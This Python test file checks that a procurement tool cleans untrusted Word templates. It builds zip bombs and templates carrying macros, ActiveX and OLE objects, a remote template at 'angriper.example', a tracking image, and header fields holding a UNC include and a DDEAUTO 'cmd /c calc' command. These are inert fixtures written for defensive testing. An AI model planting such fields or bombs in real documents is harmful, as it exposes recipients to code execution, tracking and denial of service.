"""A buyer's Word template is untrusted input: odd packages, zip bombs, macros and outside links.

Each test starts from a small valid .docx written by python-docx, changes it the way the
reliability review did, and checks what `validate` reports and what `build` writes.
"""

from __future__ import annotations

import io
import os
import re
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import IO, Any

import pytest
from docx import Document

import anskaffelse

from .conftest import spec_of

MIB = 1 << 20
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_R = "http://schemas.microsoft.com/office/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OUT_NAME = "profil-kravspesifikasjon.docx"
MARKER = "@@ANSKAFFELSE-BODY@@"
EMPTY_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')


# ---------------------------------------------------------------- building odd templates


def word_parts(document: Any = None) -> dict[str, bytes]:
    """The zip entries of a document python-docx writes (a new, empty one by default)."""
    buffer = io.BytesIO()
    (document or Document()).save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_package(path: Path, parts: dict[str, bytes],
                  streamed: dict[str, Callable[[IO[bytes]], None]] | None = None) -> Path:
    """Write the entries; `streamed` entries are written by a function, so large ones cost no memory."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for name, write in (streamed or {}).items():
            with archive.open(name, "w", force_zip64=True) as stream:
                write(stream)
    return path


def repeated(block: bytes, size: int) -> Callable[[IO[bytes]], None]:
    def write(stream: IO[bytes]) -> None:
        chunk = block * (MIB // len(block) + 1)
        for _ in range(size // MIB):
            stream.write(chunk[:MIB])

    return write


def zeros(size: int) -> Callable[[IO[bytes]], None]:
    return repeated(b"\0", size)


def add_relationship(parts: dict[str, bytes], rels: str, rel_id: str, kind: str, target: str,
                     external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    xml = parts.get(rels, EMPTY_RELS)
    if xml.endswith(b"/>") and b"</Relationships>" not in xml:
        xml = xml[:-2] + b"></Relationships>"
    parts[rels] = xml.replace(b"</Relationships>", entry + b"</Relationships>")


def add_override(parts: dict[str, bytes], name: str, content_type: str) -> None:
    entry = f'<Override PartName="/{name}" ContentType="{content_type}"/>'.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", entry + b"</Types>")


def with_header_and_footer() -> dict[str, bytes]:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "Testvik kommune"
    document.sections[0].footer.paragraphs[0].text = "Storgata 1"
    return word_parts(document)


def part_named(parts: dict[str, bytes], prefix: str) -> str:
    return next(name for name in parts if name.startswith(prefix) and name.endswith(".xml"))


def with_active_header() -> dict[str, bytes]:
    """A header with an ActiveX control, an OLE object posing as a picture, a remote picture and a
    hyperlink; a footer with an address."""
    parts = with_header_and_footer()
    header = part_named(parts, "word/header")
    header_rels = f"word/_rels/{header.removeprefix('word/')}.rels"
    add_relationship(parts, header_rels, "rX", f"{R}/control", "activeX/activeX1.xml")
    parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    add_override(parts, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    # An OLE object that calls itself a picture is still an OLE compound file.
    add_relationship(parts, header_rels, "rO", f"{R}/image", "embeddings/oleObject1.bin")
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    add_override(parts, "word/embeddings/oleObject1.bin", "image/png")
    add_relationship(parts, header_rels, "rP", f"{R}/image", "https://sporing.example/p.png", external=True)
    add_relationship(parts, header_rels, "rH", f"{R}/hyperlink", "https://testvik.kommune.no", external=True)
    parts[header] = parts[header].replace(b"</w:p>", (
        b'<w:r><w:object><w:control r:id="rX"/></w:object></w:r>'
        b'<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rO"/></w:object></w:r>'
        b'<w:r><w:pict><v:shape style="width:20pt;height:20pt"><v:imagedata r:id="rP"/></v:shape></w:pict></w:r>'
        b'<w:hyperlink r:id="rH"><w:r><w:t>testvik.kommune.no</w:t></w:r></w:hyperlink></w:p>'), 1)
    return parts


def corrupt_crc(path: Path, name: str) -> None:
    """Change the checksum the zip directory holds for `name`: the entry fails as soon as it is unpacked."""
    data = bytearray(path.read_bytes())
    record = data.find(b"PK\x01\x02")
    while record != -1:
        name_length = struct.unpack_from("<H", data, record + 28)[0]
        if data[record + 46: record + 46 + name_length] == name.encode():
            data[record + 16: record + 20] = b"\xde\xad\xbe\xef"
            break
        record = data.find(b"PK\x01\x02", record + 4)
    else:
        raise AssertionError(f"{name} not in the zip directory")
    path.write_bytes(bytes(data))


def with_main_part_renamed(source: dict[str, bytes]) -> dict[str, bytes]:
    """The review's T18: the main part is word/main.xml, named only in _rels/.rels and the content types."""
    parts = {}
    for name, data in source.items():
        if name in ("_rels/.rels", "[Content_Types].xml"):
            data = data.replace(b"word/document.xml", b"word/main.xml")
        parts[name.replace("document.xml", "main.xml")] = data
    return parts


def as_dotx(parts: dict[str, bytes]) -> dict[str, bytes]:
    types = parts["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")
    return parts | {"[Content_Types].xml": types}


# ---------------------------------------------------------------- reading the result


def main_part_xml(path: Path) -> str:
    """The built document's main part, found the way Word finds it: through the package relationships."""
    with zipfile.ZipFile(path) as archive:
        rels = archive.read("_rels/.rels").decode()
        target = re.search(r'Type="[^"]*/officeDocument"[^>]*Target="/?([^"]+)"', rels)
        if target is None:
            target = re.search(r'Target="/?([^"]+)"[^>]*Type="[^"]*/officeDocument"', rels)
        assert target is not None
        return archive.read(target.group(1)).decode()


def entries(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def requirement_ids(profile: Path) -> list[str]:
    return [r.id for r in spec_of(profile).requirements()]


@pytest.fixture
def profile(write_profile: Any) -> Path:
    return write_profile(extra="template: mal.docx\n")


def build(cli: Any, profile: Path) -> Any:
    return cli("build", profile, "-o", profile.parent / "ut", "--format", "docx")


# ---------------------------------------------------------------- #3: the main part by relationship


def test_a_main_part_with_another_name_gets_the_whole_specification(cli, profile: Path) -> None:
    """OOXML finds the main part through _rels/.rels; other tools than Word may call it word/main.xml."""
    write_package(profile.parent / "mal.docx", with_main_part_renamed(word_parts()))

    assert cli("validate", profile).exit_code == 0
    result = build(cli, profile)
    assert result.exit_code == 0, result.stderr
    body = main_part_xml(profile.parent / "ut" / OUT_NAME)
    assert MARKER not in body
    ids = requirement_ids(profile)
    assert ids and all(i in body for i in ids)
    assert all(i in "".join(c.text for t in Document(str(profile.parent / "ut" / OUT_NAME)).tables
                            for row in t.rows for c in row.cells) for i in ids)


def test_a_document_without_the_specification_is_never_written(cli, profile: Path, monkeypatch) -> None:
    """Whatever goes wrong in splicing the body in, the build fails rather than write an empty specification."""
    import anskaffelse.export.docx as exporter

    write_package(profile.parent / "mal.docx", word_parts())
    monkeypatch.setattr(exporter, "document_body", lambda *args: "")
    result = build(cli, profile)
    assert result.exit_code == 1
    assert "(P018)" in result.stderr and "could not be written" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert not (profile.parent / "ut").exists()


# ---------------------------------------------------------------- #5: zip bombs


def _image_bomb(folder: Path) -> None:
    parts = word_parts()
    add_relationship(parts, "word/_rels/document.xml.rels", "rB", f"{R}/image", "media/b.png")
    write_package(folder / "mal.docx", parts, {"word/media/b.png": zeros(128 * MIB)})


def _styles_bomb(folder: Path) -> None:
    parts = word_parts()
    del parts["word/styles.xml"]
    write_package(folder / "mal.docx", parts, {"word/styles.xml": repeated(b" ", 128 * MIB)})


def _unreferenced_bomb_in_dotx(folder: Path) -> None:
    write_package(folder / "mal.docx", as_dotx(word_parts()), {"word/ubrukt.bin": zeros(128 * MIB)})


@pytest.mark.parametrize("make", [_image_bomb, _styles_bomb, _unreferenced_bomb_in_dotx],
                         ids=["image-part", "styles", "unreferenced-in-dotx"])
def test_a_zip_bomb_is_refused_before_it_is_unpacked(cli, profile: Path, make) -> None:
    make(profile.parent)
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "(P018)" in result.stderr and "unpacks to 134 MB, more than the limit of 50 MB per part" in result.stderr
    assert "profil.yaml:" in result.stderr and "hint:" in result.stderr

    result = build(cli, profile)
    assert result.exit_code == 1
    assert "unpacks to 134 MB" in result.stderr and "internal error" not in result.stderr
    assert not (profile.parent / "ut").exists()


def test_a_part_packed_tighter_than_zip_bombs_are_is_refused(cli, profile: Path) -> None:
    """20 MB of zeros is below the size limit but packs about 1,000 to 1."""
    parts = word_parts()
    add_relationship(parts, "word/_rels/document.xml.rels", "rB", f"{R}/image", "media/b.png")
    write_package(profile.parent / "mal.docx", parts, {"word/media/b.png": zeros(20 * MIB)})
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "word/media/b.png packed more than 100 to 1" in result.stderr


def test_the_total_unpacked_size_is_limited(cli, profile: Path) -> None:
    # A random block repeated packs about 60 to 1: each part passes, together they are too large.
    block = os.urandom(20_000)
    streamed = {f"word/media/bilde{i}.png": repeated(block, 40 * MIB) for i in range(3)}
    write_package(profile.parent / "mal.docx", word_parts(), streamed)
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "unpacks to 1" in result.stderr and "more than the limit of 100 MB" in result.stderr


def test_a_template_of_too_many_parts_is_refused(cli, profile: Path) -> None:
    parts = word_parts() | {f"customXml/tom{i}.xml": b"" for i in range(1000)}
    write_package(profile.parent / "mal.docx", parts)
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "has more than 1000 parts" in result.stderr


def test_a_part_that_unpacks_to_other_bytes_than_declared_is_refused(cli, profile: Path) -> None:
    """The zip directory's sizes and checksums are not trusted: reading stops at the declared size."""
    parts = word_parts()
    write_package(profile.parent / "mal.docx", parts)
    corrupt_crc(profile.parent / "mal.docx", "word/styles.xml")
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "cannot be read as a Word document (BadZipFile)" in result.stderr

    result = build(cli, profile)
    assert result.exit_code == 1 and "internal error" not in result.stderr
    assert not (profile.parent / "ut").exists()


def test_entries_nothing_refers_to_are_never_unpacked_nor_copied(cli, profile: Path) -> None:
    """A .dotx with a damaged entry that no relationship reaches builds, and the entry stays behind."""
    parts = as_dotx(word_parts()) | {"word/ubrukt.xml": b"<x>" + b"ubrukt " * 1000 + b"</x>"}
    write_package(profile.parent / "mal.docx", parts)
    corrupt_crc(profile.parent / "mal.docx", "word/ubrukt.xml")
    assert cli("validate", profile).exit_code == 0
    result = build(cli, profile)
    assert result.exit_code == 0, result.stderr
    built = entries(profile.parent / "ut" / OUT_NAME)
    assert "word/ubrukt.xml" not in built
    assert requirement_ids(profile)[0] in main_part_xml(profile.parent / "ut" / OUT_NAME)


# ---------------------------------------------------------------- #10: macros, controls, outside links


def _macro_template(folder: Path) -> None:
    """The review's T15 and T19: a macro project related from the document, a remote .dotm attached."""
    parts = word_parts()
    add_relationship(parts, "word/_rels/document.xml.rels", "rV", f"{MS_R}/vbaProject", "vbaProject.bin")
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    add_override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    add_relationship(parts, "word/_rels/settings.xml.rels", "rT", f"{R}/attachedTemplate",
                     "https://angriper.example/mal.dotm", external=True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rT"/><w:defaultTabStop')
    write_package(folder / "mal.docx", parts)


def test_macros_and_a_remote_template_are_left_out_with_a_warning(cli, profile: Path) -> None:
    _macro_template(profile.parent)
    result = cli("validate", profile)
    assert result.exit_code == 0
    assert "warning" in result.stderr and "(P027)" in result.stderr
    assert "macros (word/vbaProject.bin)" in result.stderr
    assert "a link to an outside template (https://angriper.example/mal.dotm)" in result.stderr

    result = build(cli, profile)
    assert result.exit_code == 0, result.stderr
    assert "(P027)" in result.stderr
    built = entries(profile.parent / "ut" / OUT_NAME)
    assert not [name for name in built if "vba" in name.lower()]
    assert "vbaProject" not in "".join(built.values())
    assert 'TargetMode="External"' not in built.get("word/_rels/settings.xml.rels", "")
    assert "attachedTemplate" not in built["word/settings.xml"]
    assert requirement_ids(profile)[0] in main_part_xml(profile.parent / "ut" / OUT_NAME)


def test_controls_ole_objects_and_remote_pictures_in_the_header_are_left_out(cli, profile: Path) -> None:
    """The header keeps its text and its hyperlink (followed only on a click); the rest goes."""
    parts = with_active_header()
    footer = part_named(parts, "word/footer")
    write_package(profile.parent / "mal.docx", parts)

    result = cli("validate", profile)
    assert result.exit_code == 0
    for left_out in ("an ActiveX control (word/activeX/activeX1.xml)",
                     "an embedded OLE object (word/embeddings/oleObject1.bin)",
                     "a picture fetched from an outside address (https://sporing.example/p.png)"):
        assert left_out in result.stderr

    assert build(cli, profile).exit_code == 0
    built = entries(profile.parent / "ut" / OUT_NAME)
    assert not [n for n in built if "activex" in n.lower() or "embeddings" in n]
    header_xml = "".join(v for n, v in built.items() if n.startswith("word/header") and n.endswith(".xml"))
    assert "Testvik kommune" in header_xml and "testvik.kommune.no" in header_xml
    assert not re.search(r'r:id="r[XOP]"', header_xml)
    assert "w:control" not in header_xml and "OLEObject" not in header_xml and "v:imagedata" not in header_xml
    rels = "".join(v for n, v in built.items() if n.endswith(".rels"))
    assert "sporing.example" not in rels and "https://testvik.kommune.no" in rels
    assert "Storgata 1" in built[footer]


def test_fields_that_fetch_outside_content_are_taken_out_of_the_header(cli, profile: Path) -> None:
    """Word updates a built document's fields when it opens it; these would read files and addresses."""
    parts = with_header_and_footer()
    header = part_named(parts, "word/header")
    parts[header] = parts[header].replace(b"</w:p>", (
        b'<w:fldSimple w:instr=\' INCLUDETEXT "\\\\server\\share\\x.docx" \'><w:r><w:t>hemmelig</w:t></w:r>'
        b'</w:fldSimple>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        b'<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), 1)
    write_package(profile.parent / "mal.docx", parts)

    result = cli("validate", profile)
    assert result.exit_code == 0
    assert "2 field(s) that fetch outside content or start a program" in result.stderr and "(P027)" in result.stderr

    assert build(cli, profile).exit_code == 0
    header_xml = entries(profile.parent / "ut" / OUT_NAME)[header]
    assert "INCLUDETEXT" not in header_xml and "hemmelig" not in header_xml
    assert "DDE" not in header_xml and "calc" not in header_xml
    assert "PAGE" in header_xml and "Testvik kommune" in header_xml


def test_a_macro_enabled_template_is_refused(cli, profile: Path) -> None:
    parts = word_parts()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    write_package(profile.parent / "mal.docx", parts)
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "is not a Word document or template" in result.stderr and ".docm" in result.stderr


# ---------------------------------------------------------------- T21 and other odd content


def test_numbering_with_ids_that_are_not_numbers_builds(cli, profile: Path) -> None:
    """Review T21: w:abstractNumId="x" made the build fail with an internal error."""
    parts = word_parts()
    parts["word/numbering.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:numbering xmlns:w="{W_NS}">'
        '<w:abstractNum w:abstractNumId="x"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum>'
        '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="y"><w:abstractNumId w:val="0"/></w:num>'
        '<w:num w:numId="1"><w:abstractNumId w:val="x"/></w:num>'
        '<w:num w:numId="2"><w:abstractNumId w:val="0"/></w:num>'
        "</w:numbering>").encode()
    write_package(profile.parent / "mal.docx", parts)
    assert cli("validate", profile).exit_code == 0
    result = build(cli, profile)
    assert result.exit_code == 0, result.stderr
    numbering = entries(profile.parent / "ut" / OUT_NAME)["word/numbering.xml"]
    assert '"x"' not in numbering and '"y"' not in numbering
    assert 'w:numId="2"' in numbering and 'w:abstractNumId="1"' in numbering


def test_a_body_without_section_properties_builds(cli, profile: Path) -> None:
    """The final w:sectPr is optional (Word then uses A4 portrait); the page set-up needs one."""
    parts = word_parts()
    parts["word/document.xml"] = re.sub(rb"<w:sectPr.*</w:sectPr>", b"", parts["word/document.xml"], flags=re.S)
    write_package(profile.parent / "mal.docx", parts)
    result = build(cli, profile)
    assert result.exit_code == 0, result.stderr
    assert "<w:sectPr" in main_part_xml(profile.parent / "ut" / OUT_NAME)


# ---------------------------------------------------------------- #17: what the template path names


def test_a_missing_template_says_so(cli, profile: Path) -> None:
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "Word template not found" in result.stderr and "relative to the profile" in result.stderr


def test_a_folder_as_template_says_so(cli, profile: Path) -> None:
    (profile.parent / "mal.docx").mkdir()
    result = cli("validate", profile)
    assert result.exit_code == 1
    assert "is a folder, not a regular file" in result.stderr and "not found" not in result.stderr


def test_a_device_as_template_says_so(cli, write_profile: Any) -> None:
    path = write_profile(extra="template: /dev/zero\n")
    result = cli("validate", path)
    assert result.exit_code == 1
    assert "is a device, pipe or socket, not a regular file" in result.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are a POSIX feature")
def test_a_named_pipe_as_template_neither_hangs_nor_says_missing(profile: Path) -> None:
    os.mkfifo(profile.parent / "mal.docx")
    for command in (["validate", str(profile)], ["build", str(profile), "-o", str(profile.parent / "ut")]):
        run = subprocess.run([sys.executable, "-m", "anskaffelse", *command], capture_output=True, text=True,
                             timeout=60, check=False, cwd=profile.parent)
        assert run.returncode == 1
        assert "is a device, pipe or socket" in run.stderr and "Traceback" not in run.stderr
    assert not (profile.parent / "ut").exists()


def test_the_api_raises_input_error_for_a_bomb(profile: Path) -> None:
    _image_bomb(profile.parent)
    with pytest.raises(anskaffelse.InputError) as caught:
        anskaffelse.build([profile], profile.parent / "ut", formats=["docx"])
    assert [d.code for d in caught.value.diagnostics] == ["P018"]


@pytest.mark.libreoffice
def test_libreoffice_shows_the_specification_built_on_an_odd_template(cli, profile: Path) -> None:
    """An office suite opens what the cleaning left: a renamed main part, a header without its active
    content; the text holds the requirements and no marker."""
    from .test_libreoffice import contains_id, convert_to_pdf, pdf_text

    write_package(profile.parent / "mal.docx", with_main_part_renamed(with_active_header()))
    assert build(cli, profile).exit_code == 0
    folder = profile.parent
    text = pdf_text(convert_to_pdf(folder / "ut" / OUT_NAME, folder / "pdf", folder / "lo-profile"))
    ids = requirement_ids(profile)
    assert contains_id(text, ids[0]) and contains_id(text, ids[-1])
    assert "Testvik kommune" in text and MARKER not in text
